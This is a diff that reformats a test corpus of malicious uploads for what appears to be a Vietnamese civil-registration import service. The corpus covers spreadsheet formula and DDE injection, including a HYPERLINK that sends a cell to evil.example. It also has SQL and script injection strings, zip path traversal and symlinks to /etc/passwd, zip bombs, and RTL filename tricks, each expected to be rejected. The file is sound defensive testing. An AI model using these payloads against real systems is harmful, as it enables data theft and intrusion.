@@ -83,7 +83,12 @@ const isFile = (c: Case): c is FileCase => 'kind' in c;
 /** Vietnamese letters that no English message contains. */
 const VIETNAMESE = /[ăâđêôơưàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ]/i;
 const GATEWAY_401: HttpExpect = { status: 401, message: 'Unauthorized' };
-const invalid = (issue: string, message: string | RegExp = 'Dữ liệu gửi lên không hợp lệ'): HttpExpect => ({ status: 400, error: 'InvalidInput', message, issue });
+const invalid = (issue: string, message: string | RegExp = 'Dữ liệu gửi lên không hợp lệ'): HttpExpect => ({
+  status: 400,
+  error: 'InvalidInput',
+  message,
+  issue,
+});
 
 // ---------------------------------------------------------------- helpers for requests
 
@@ -153,7 +158,8 @@ async function zipWithNames(names: string[], data: (i: number) => Buffer): Promi
   return zip;
 }
 
-const encryptedPdf = (pdf: Buffer) => Buffer.from(pdf.toString('latin1').replace('/Root', '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>\n/Root'), 'latin1');
+const encryptedPdf = (pdf: Buffer) =>
+  Buffer.from(pdf.toString('latin1').replace('/Root', '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>\n/Root'), 'latin1');
 
 // ---------------------------------------------------------------- the corpus
 
@@ -169,11 +175,51 @@ async function correct(w: World, body: Record<string, unknown>) {
 
 const cases: Case[] = [
   // ---------------- Excel (entry workbooks, judged from the S3 event)
-  { category: 'excel', name: 'CSV renamed .xlsx', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => Buffer.from('so;quyenSo;ngayDangKy\n1/2018;1/2018;01.01.2018\n'), expect: { fileError: 'CSV_OR_TEXT' } },
-  { category: 'excel', name: 'HTML table named .xlsx', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => Buffer.from('<html><body><table><tr><td>so</td></tr></table></body></html>'), expect: { fileError: 'HTML_OR_XML' } },
-  { category: 'excel', name: 'random bytes named .xlsx', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => Buffer.concat([Buffer.from([0x00, 0x01]), randomBytes(4000)]), expect: { fileError: 'NOT_XLSX' } },
-  { category: 'excel', name: 'legacy .xls (OLE compound file)', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => oleFile(['Workbook', 'SummaryInformation']), expect: { fileError: 'LEGACY_XLS' } },
-  { category: 'excel', name: 'password-protected workbook (encrypted OOXML)', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => oleFile(['EncryptionInfo', 'EncryptedPackage']), expect: { fileError: 'PASSWORD_PROTECTED' } },
+  {
+    category: 'excel',
+    name: 'CSV renamed .xlsx',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => Buffer.from('so;quyenSo;ngayDangKy\n1/2018;1/2018;01.01.2018\n'),
+    expect: { fileError: 'CSV_OR_TEXT' },
+  },
+  {
+    category: 'excel',
+    name: 'HTML table named .xlsx',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => Buffer.from('<html><body><table><tr><td>so</td></tr></table></body></html>'),
+    expect: { fileError: 'HTML_OR_XML' },
+  },
+  {
+    category: 'excel',
+    name: 'random bytes named .xlsx',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => Buffer.concat([Buffer.from([0x00, 0x01]), randomBytes(4000)]),
+    expect: { fileError: 'NOT_XLSX' },
+  },
+  {
+    category: 'excel',
+    name: 'legacy .xls (OLE compound file)',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => oleFile(['Workbook', 'SummaryInformation']),
+    expect: { fileError: 'LEGACY_XLS' },
+  },
+  {
+    category: 'excel',
+    name: 'password-protected workbook (encrypted OOXML)',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => oleFile(['EncryptionInfo', 'EncryptedPackage']),
+    expect: { fileError: 'PASSWORD_PROTECTED' },
+  },
   {
     category: 'excel',
     name: 'macro-enabled workbook (vbaProject.bin) named .xlsx',
@@ -182,19 +228,81 @@ const cases: Case[] = [
     contentType: XLSX,
     file: async () =>
       storedZip([
-        { name: '[Content_Types].xml', data: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>' },
+        {
+          name: '[Content_Types].xml',
+          data: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
+        },
         { name: 'xl/workbook.xml', data: '<workbook/>' },
         { name: 'xl/vbaProject.bin', data: randomBytes(100) },
       ]),
     expect: { fileError: 'MACRO_ENABLED' },
   },
-  { category: 'excel', name: 'OpenDocument spreadsheet named .xlsx', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => storedZip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet' }]), expect: { fileError: 'ODS' } },
-  { category: 'excel', name: 'binary .xlsb named .xlsx', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => storedZip([{ name: 'xl/workbook.bin', data: randomBytes(64) }]), expect: { fileError: 'XLSB' } },
-  { category: 'excel', name: 'zip without a workbook (a Word document) named .xlsx', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async () => storedZip([{ name: 'word/document.xml', data: '<w:document/>' }]), expect: { fileError: 'NOT_XLSX' } },
-  { category: 'excel', name: 'truncated workbook (last 40% cut off)', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: async (w) => { const b = await entryWith({})(w); return b.subarray(0, Math.floor(b.length * 0.6)); }, expect: { fileError: 'CORRUPT_ZIP' } },
-  { category: 'excel', name: 'formula injection in a text cell: =HYPERLINK(…)', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ nksHoTen: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")' }), expect: { ruleId: 'E-FORMULA-TEXT', column: 'nksHoTen' } },
-  { category: 'excel', name: "DDE injection in a text cell: =cmd|' /C calc'!A0", kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ noiDangKy: "=cmd|' /C calc'!A0" }), expect: { ruleId: 'E-FORMULA-TEXT', column: 'noiDangKy' } },
-  { category: 'excel', name: "formula injection starting with @ / + / -: @SUM(1+1)*cmd|' /C calc'!A0", kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ nguoiKy: "@SUM(1+1)*cmd|' /C calc'!A0", chucVuNguoiKy: "-2+3+cmd|' /C calc'!A0" }), expect: { ruleId: 'E-FORMULA-TEXT', column: 'nguoiKy' } },
+  {
+    category: 'excel',
+    name: 'OpenDocument spreadsheet named .xlsx',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => storedZip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet' }]),
+    expect: { fileError: 'ODS' },
+  },
+  {
+    category: 'excel',
+    name: 'binary .xlsb named .xlsx',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => storedZip([{ name: 'xl/workbook.bin', data: randomBytes(64) }]),
+    expect: { fileError: 'XLSB' },
+  },
+  {
+    category: 'excel',
+    name: 'zip without a workbook (a Word document) named .xlsx',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async () => storedZip([{ name: 'word/document.xml', data: '<w:document/>' }]),
+    expect: { fileError: 'NOT_XLSX' },
+  },
+  {
+    category: 'excel',
+    name: 'truncated workbook (last 40% cut off)',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: async (w) => {
+      const b = await entryWith({})(w);
+      return b.subarray(0, Math.floor(b.length * 0.6));
+    },
+    expect: { fileError: 'CORRUPT_ZIP' },
+  },
+  {
+    category: 'excel',
+    name: 'formula injection in a text cell: =HYPERLINK(…)',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ nksHoTen: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")' }),
+    expect: { ruleId: 'E-FORMULA-TEXT', column: 'nksHoTen' },
+  },
+  {
+    category: 'excel',
+    name: "DDE injection in a text cell: =cmd|' /C calc'!A0",
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ noiDangKy: "=cmd|' /C calc'!A0" }),
+    expect: { ruleId: 'E-FORMULA-TEXT', column: 'noiDangKy' },
+  },
+  {
+    category: 'excel',
+    name: "formula injection starting with @ / + / -: @SUM(1+1)*cmd|' /C calc'!A0",
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ nguoiKy: "@SUM(1+1)*cmd|' /C calc'!A0", chucVuNguoiKy: "-2+3+cmd|' /C calc'!A0" }),
+    expect: { ruleId: 'E-FORMULA-TEXT', column: 'nguoiKy' },
+  },
   {
     category: 'excel',
     name: 'a real formula without a cached value (HYPERLINK)',
@@ -204,10 +312,42 @@ const cases: Case[] = [
     file: entryWith({ nksHoTen: { formula: 'HYPERLINK("http://evil.example","x")' } }),
     expect: { ruleId: 'E-FORMULA-NO-RESULT', column: 'nksHoTen' },
   },
-  { category: 'excel', name: 'NUL byte inside a name cell (as Excel stores it: _x0000_)', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ nksHoTen: 'Nguyễn Văn_x0000_ An' }), expect: { ruleId: 'E-CONTROL-CHAR', column: 'nksHoTen' } },
-  { category: 'excel', name: 'unicode trick: right-to-left override (U+202E) in a name', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ nksHoTen: 'Nguyễn \u202Ena Vnăv' }), expect: { ruleId: 'E-CONTROL-CHAR', column: 'nksHoTen' } },
-  { category: 'excel', name: 'oversized cell (5,000 characters)', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ ghiChu: 'Ghi chú '.repeat(625) }), expect: { ruleId: 'E-CELL-TOO-LONG', column: 'ghiChu' } },
-  { category: 'excel', name: 'prototype-pollution key as registration number: __proto__', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ so: '__proto__' }), expect: { ruleId: 'E-SO-FORMAT', column: 'so' } },
+  {
+    category: 'excel',
+    name: 'NUL byte inside a name cell (as Excel stores it: _x0000_)',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ nksHoTen: 'Nguyễn Văn_x0000_ An' }),
+    expect: { ruleId: 'E-CONTROL-CHAR', column: 'nksHoTen' },
+  },
+  {
+    category: 'excel',
+    name: 'unicode trick: right-to-left override (U+202E) in a name',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ nksHoTen: 'Nguyễn \u202Ena Vnăv' }),
+    expect: { ruleId: 'E-CONTROL-CHAR', column: 'nksHoTen' },
+  },
+  {
+    category: 'excel',
+    name: 'oversized cell (5,000 characters)',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ ghiChu: 'Ghi chú '.repeat(625) }),
+    expect: { ruleId: 'E-CELL-TOO-LONG', column: 'ghiChu' },
+  },
+  {
+    category: 'excel',
+    name: 'prototype-pollution key as registration number: __proto__',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ so: '__proto__' }),
+    expect: { ruleId: 'E-SO-FORMAT', column: 'so' },
+  },
   {
     category: 'excel',
     name: 'prototype-pollution column headers: __proto__, constructor',
@@ -220,9 +360,33 @@ const cases: Case[] = [
     },
     expect: { ruleId: 'E-EXTRA-COLUMN' },
   },
-  { category: 'excel', name: 'wrong type: text in a date column', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ ngayDangKy: "'; DROP TABLE so_ho_tich; --" }), expect: { ruleId: 'E-DATE-FORMAT', column: 'ngayDangKy' } },
-  { category: 'excel', name: 'wrong type: text in an integer column', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ trangSo: '1e308' }), expect: { ruleId: 'E-INTEGER', column: 'trangSo' } },
-  { category: 'excel', name: 'ID number with script injection', kind: 'entry', fileName: 'nhap-lieu.xlsx', contentType: XLSX, file: entryWith({ nksSoDinhDanh: '<script>alert(1)</script>' }), expect: { ruleId: 'E-ID-FORMAT', column: 'nksSoDinhDanh' } },
+  {
+    category: 'excel',
+    name: 'wrong type: text in a date column',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ ngayDangKy: "'; DROP TABLE so_ho_tich; --" }),
+    expect: { ruleId: 'E-DATE-FORMAT', column: 'ngayDangKy' },
+  },
+  {
+    category: 'excel',
+    name: 'wrong type: text in an integer column',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ trangSo: '1e308' }),
+    expect: { ruleId: 'E-INTEGER', column: 'trangSo' },
+  },
+  {
+    category: 'excel',
+    name: 'ID number with script injection',
+    kind: 'entry',
+    fileName: 'nhap-lieu.xlsx',
+    contentType: XLSX,
+    file: entryWith({ nksSoDinhDanh: '<script>alert(1)</script>' }),
+    expect: { ruleId: 'E-ID-FORMAT', column: 'nksSoDinhDanh' },
+  },
   {
     category: 'excel',
     name: 'a marriage (KH) workbook for a birth (KS) book',
@@ -234,22 +398,134 @@ const cases: Case[] = [
   },
 
   // ---------------- CSV (the police's register extract)
-  { category: 'csv', name: 'binary garbage named .csv', kind: 'extract', fileName: 'trich-xuat.csv', contentType: 'text/csv', file: async () => randomBytes(3000), expect: { extractIssue: '1:idNumber' } },
-  { category: 'csv', name: 'sex code 9 and a non-numeric birth year', kind: 'extract', fileName: 'trich-xuat.csv', contentType: 'text/csv', file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh;NamSinhCha\n001200000001;Lê Thị B;9;abc\n'), expect: { extractIssue: '2:sex' } },
-  { category: 'csv', name: 'a missing name', kind: 'extract', fileName: 'trich-xuat.csv', contentType: 'text/csv', file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh\n001200000001;;1\n'), expect: { extractIssue: '2:fullName' } },
-  { category: 'csv', name: "formula injection in a name: =cmd|' /C calc'!A0", kind: 'extract', fileName: 'trich-xuat.csv', contentType: 'text/csv', file: async () => Buffer.from("SoDinhDanh;HoTen;GioiTinh\n001200000001;=cmd|' /C calc'!A0;1\n"), expect: { extractIssue: '2:fullName' } },
-  { category: 'csv', name: 'right-to-left override in a name', kind: 'extract', fileName: 'trich-xuat.csv', contentType: 'text/csv', file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh\n001200000001;Lê \u202EB;1\n'), expect: { extractIssue: '2:fullName' } },
-  { category: 'csv', name: 'truncated .xlsx named .xlsx', kind: 'extract', fileName: 'trich-xuat.xlsx', contentType: XLSX, file: async (w) => (await entryWith({})(w)).subarray(0, 3000), expect: { extractIssue: '0:' } },
+  {
+    category: 'csv',
+    name: 'binary garbage named .csv',
+    kind: 'extract',
+    fileName: 'trich-xuat.csv',
+    contentType: 'text/csv',
+    file: async () => randomBytes(3000),
+    expect: { extractIssue: '1:idNumber' },
+  },
+  {
+    category: 'csv',
+    name: 'sex code 9 and a non-numeric birth year',
+    kind: 'extract',
+    fileName: 'trich-xuat.csv',
+    contentType: 'text/csv',
+    file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh;NamSinhCha\n001200000001;Lê Thị B;9;abc\n'),
+    expect: { extractIssue: '2:sex' },
+  },
+  {
+    category: 'csv',
+    name: 'a missing name',
+    kind: 'extract',
+    fileName: 'trich-xuat.csv',
+    contentType: 'text/csv',
+    file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh\n001200000001;;1\n'),
+    expect: { extractIssue: '2:fullName' },
+  },
+  {
+    category: 'csv',
+    name: "formula injection in a name: =cmd|' /C calc'!A0",
+    kind: 'extract',
+    fileName: 'trich-xuat.csv',
+    contentType: 'text/csv',
+    file: async () => Buffer.from("SoDinhDanh;HoTen;GioiTinh\n001200000001;=cmd|' /C calc'!A0;1\n"),
+    expect: { extractIssue: '2:fullName' },
+  },
+  {
+    category: 'csv',
+    name: 'right-to-left override in a name',
+    kind: 'extract',
+    fileName: 'trich-xuat.csv',
+    contentType: 'text/csv',
+    file: async () => Buffer.from('SoDinhDanh;HoTen;GioiTinh\n001200000001;Lê \u202EB;1\n'),
+    expect: { extractIssue: '2:fullName' },
+  },
+  {
+    category: 'csv',
+    name: 'truncated .xlsx named .xlsx',
+    kind: 'extract',
+    fileName: 'trich-xuat.xlsx',
+    contentType: XLSX,
+    file: async (w) => (await entryWith({})(w)).subarray(0, 3000),
+    expect: { extractIssue: '0:' },
+  },
 
   // ---------------- zip (scan deliveries)
-  { category: 'zip', name: 'path traversal ../../etc/1-2018.pdf', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: (w) => zipWithNames(['../../etc/1-2018.pdf'], () => w.pdf), expect: { entry: '../../etc/1-2018.pdf', reason: 'PATH_TRAVERSAL' } },
-  { category: 'zip', name: 'absolute path /tmp/1-2018.pdf', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: (w) => zipWithNames(['/tmp/1-2018.pdf'], () => w.pdf), expect: { entry: '/tmp/1-2018.pdf', reason: 'PATH_TRAVERSAL' } },
-  { category: 'zip', name: 'drive letter and backslashes C:\\..\\1-2018.pdf', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: (w) => zipWithNames(['C:\\..\\1-2018.pdf'], () => w.pdf), expect: { entry: 'C:\\..\\1-2018.pdf', reason: 'PATH_TRAVERSAL' } },
-  { category: 'zip', name: 'symlink entry named for a record (→ /etc/passwd)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: () => zipOf([{ name: '1-2018.pdf', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]), expect: { entry: '1-2018.pdf', reason: 'SYMLINK' } },
-  { category: 'zip', name: 'NUL byte in an entry name', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: (w) => zipWithNames(['1-2018\u0000.pdf'], () => w.pdf), expect: { entry: '1-2018\u0000.pdf', reason: 'UNSAFE_NAME' } },
-  { category: 'zip', name: 'zip bomb: 20 MB of zeros declared in the header', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: () => zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(20 * 1024 * 1024) }]), expect: { entry: '1-2018.pdf', reason: 'ZIP_BOMB' } },
-  { category: 'zip', name: 'zip bomb with a lying header (declares 1,000 bytes)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async () => patchZip(await zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(30 * 1024 * 1024) }]), 0, { uncompressedSize: 1000 }), expect: { entry: '1-2018.pdf', reason: 'ZIP_BOMB' } },
-  { category: 'zip', name: 'huge declared size (4 GB) on a stored entry', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf, compress: false }]), 0, { uncompressedSize: 0xffff_fff0 }), expect: { entry: '1-2018.pdf', reason: 'TOO_LARGE' } },
+  {
+    category: 'zip',
+    name: 'path traversal ../../etc/1-2018.pdf',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: (w) => zipWithNames(['../../etc/1-2018.pdf'], () => w.pdf),
+    expect: { entry: '../../etc/1-2018.pdf', reason: 'PATH_TRAVERSAL' },
+  },
+  {
+    category: 'zip',
+    name: 'absolute path /tmp/1-2018.pdf',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: (w) => zipWithNames(['/tmp/1-2018.pdf'], () => w.pdf),
+    expect: { entry: '/tmp/1-2018.pdf', reason: 'PATH_TRAVERSAL' },
+  },
+  {
+    category: 'zip',
+    name: 'drive letter and backslashes C:\\..\\1-2018.pdf',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: (w) => zipWithNames(['C:\\..\\1-2018.pdf'], () => w.pdf),
+    expect: { entry: 'C:\\..\\1-2018.pdf', reason: 'PATH_TRAVERSAL' },
+  },
+  {
+    category: 'zip',
+    name: 'symlink entry named for a record (→ /etc/passwd)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: () => zipOf([{ name: '1-2018.pdf', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
+    expect: { entry: '1-2018.pdf', reason: 'SYMLINK' },
+  },
+  {
+    category: 'zip',
+    name: 'NUL byte in an entry name',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: (w) => zipWithNames(['1-2018\u0000.pdf'], () => w.pdf),
+    expect: { entry: '1-2018\u0000.pdf', reason: 'UNSAFE_NAME' },
+  },
+  {
+    category: 'zip',
+    name: 'zip bomb: 20 MB of zeros declared in the header',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: () => zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(20 * 1024 * 1024) }]),
+    expect: { entry: '1-2018.pdf', reason: 'ZIP_BOMB' },
+  },
+  {
+    category: 'zip',
+    name: 'zip bomb with a lying header (declares 1,000 bytes)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async () => patchZip(await zipOf([{ name: '1-2018.pdf', data: Buffer.alloc(30 * 1024 * 1024) }]), 0, { uncompressedSize: 1000 }),
+    expect: { entry: '1-2018.pdf', reason: 'ZIP_BOMB' },
+  },
+  {
+    category: 'zip',
+    name: 'huge declared size (4 GB) on a stored entry',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf, compress: false }]), 0, { uncompressedSize: 0xffff_fff0 }),
+    expect: { entry: '1-2018.pdf', reason: 'TOO_LARGE' },
+  },
   {
     category: 'zip',
     name: 'overlapping entries (two names, one data stream)',
@@ -265,9 +541,33 @@ const cases: Case[] = [
     },
     expect: { entry: '2-2018.pdf', reason: 'ZIP_BOMB' },
   },
-  { category: 'zip', name: 'encrypted entry (traditional PKWARE encryption flag)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { setFlags: 0x1 }), expect: { entry: '1-2018.pdf', reason: 'ENCRYPTED_ENTRY' } },
-  { category: 'zip', name: 'strong encryption (flag 0x40)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { setFlags: 0x41 }), expect: { archiveError: 'UNSUPPORTED_ARCHIVE' } },
-  { category: 'zip', name: 'unsupported compression method (bzip2)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { compressionMethod: 12 }), expect: { entry: '1-2018.pdf', reason: 'UNSUPPORTED_COMPRESSION' } },
+  {
+    category: 'zip',
+    name: 'encrypted entry (traditional PKWARE encryption flag)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { setFlags: 0x1 }),
+    expect: { entry: '1-2018.pdf', reason: 'ENCRYPTED_ENTRY' },
+  },
+  {
+    category: 'zip',
+    name: 'strong encryption (flag 0x40)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { setFlags: 0x41 }),
+    expect: { archiveError: 'UNSUPPORTED_ARCHIVE' },
+  },
+  {
+    category: 'zip',
+    name: 'unsupported compression method (bzip2)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => patchZip(await zipOf([{ name: '1-2018.pdf', data: w.pdf }]), 0, { compressionMethod: 12 }),
+    expect: { entry: '1-2018.pdf', reason: 'UNSUPPORTED_COMPRESSION' },
+  },
   {
     category: 'zip',
     name: 'CRC mismatch (one byte flipped)',
@@ -282,11 +582,54 @@ const cases: Case[] = [
     },
     expect: { entry: '1-2018.pdf', reason: 'CORRUPT_ENTRY' },
   },
-  { category: 'zip', name: 'nested zip named for a record', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => zipOf([{ name: '1-2018.pdf', data: await zipOf([{ name: '1-2018.pdf', data: w.pdf }]) }]), expect: { entry: '1-2018.pdf', reason: 'NESTED_ARCHIVE' } },
-  { category: 'zip', name: 'nested zip by name (them.zip)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => zipOf([{ name: 'them.zip', data: await zipOf([{ name: '1-2018.pdf', data: w.pdf }]) }]), expect: { entry: 'them.zip', reason: 'NESTED_ARCHIVE' } },
-  { category: 'zip', name: 'not a zip at all (text named .zip)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async () => Buffer.from('đây không phải tệp zip'.repeat(50)), expect: { archiveError: 'NOT_ZIP' } },
-  { category: 'zip', name: 'truncated zip (end of archive cut off)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => { const z = await zipOf([{ name: '1-2018.pdf', data: w.pdf }]); return z.subarray(0, z.length - 30); }, expect: { archiveError: 'NOT_ZIP' } },
-  { category: 'zip', name: 'too many entries (20,001 declared)', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async () => manyEntriesZip(20_001, (i) => `x${i}.pdf`), expect: { archiveError: 'TOO_MANY_ENTRIES' } },
+  {
+    category: 'zip',
+    name: 'nested zip named for a record',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => zipOf([{ name: '1-2018.pdf', data: await zipOf([{ name: '1-2018.pdf', data: w.pdf }]) }]),
+    expect: { entry: '1-2018.pdf', reason: 'NESTED_ARCHIVE' },
+  },
+  {
+    category: 'zip',
+    name: 'nested zip by name (them.zip)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => zipOf([{ name: 'them.zip', data: await zipOf([{ name: '1-2018.pdf', data: w.pdf }]) }]),
+    expect: { entry: 'them.zip', reason: 'NESTED_ARCHIVE' },
+  },
+  {
+    category: 'zip',
+    name: 'not a zip at all (text named .zip)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async () => Buffer.from('đây không phải tệp zip'.repeat(50)),
+    expect: { archiveError: 'NOT_ZIP' },
+  },
+  {
+    category: 'zip',
+    name: 'truncated zip (end of archive cut off)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => {
+      const z = await zipOf([{ name: '1-2018.pdf', data: w.pdf }]);
+      return z.subarray(0, z.length - 30);
+    },
+    expect: { archiveError: 'NOT_ZIP' },
+  },
+  {
+    category: 'zip',
+    name: 'too many entries (20,001 declared)',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async () => manyEntriesZip(20_001, (i) => `x${i}.pdf`),
+    expect: { archiveError: 'TOO_MANY_ENTRIES' },
+  },
   {
     category: 'zip',
     name: 'duplicate names up to Unicode normalisation and case',
@@ -300,74 +643,460 @@ const cases: Case[] = [
       ]),
     expect: { entry: '1-2018.PDF', reason: 'DUPLICATE_NAME' },
   },
-  { category: 'zip', name: 'unicode trick: right-to-left override in an entry name', kind: 'scans', fileName: 'giao.zip', contentType: 'application/zip', file: async (w) => zipOf([{ name: '1-2018\u202Efdp.exe.pdf', data: w.pdf }]), expect: { entry: '1-2018\u202Efdp.exe.pdf', reason: 'UNSAFE_NAME' } },
+  {
+    category: 'zip',
+    name: 'unicode trick: right-to-left override in an entry name',
+    kind: 'scans',
+    fileName: 'giao.zip',
+    contentType: 'application/zip',
+    file: async (w) => zipOf([{ name: '1-2018\u202Efdp.exe.pdf', data: w.pdf }]),
+    expect: { entry: '1-2018\u202Efdp.exe.pdf', reason: 'UNSAFE_NAME' },
+  },
 
   // ---------------- PDF
-  { category: 'pdf', name: 'JPEG named .pdf (single upload)', kind: 'scans', fileName: '1-2018.pdf', contentType: 'application/pdf', file: async () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 2, 3, 4, 5]), expect: { entry: '1-2018.pdf', reason: 'NOT_PDF' } },
-  { category: 'pdf', name: 'HTML named .pdf (single upload)', kind: 'scans', fileName: '1-2018.pdf', contentType: 'application/pdf', file: async () => Buffer.from('<html><script>alert(1)</script></html>'), expect: { entry: '1-2018.pdf', reason: 'NOT_PDF' } },
-  { category: 'pdf', name: 'truncated PDF (single upload)', kind: 'scans', fileName: '1-2018.pdf', contentType: 'application/pdf', file: async (w) => w.pdf.subarray(0, w.pdf.length - 40), expect: { entry: '1-2018.pdf', reason: 'CORRUPT_PDF' } },
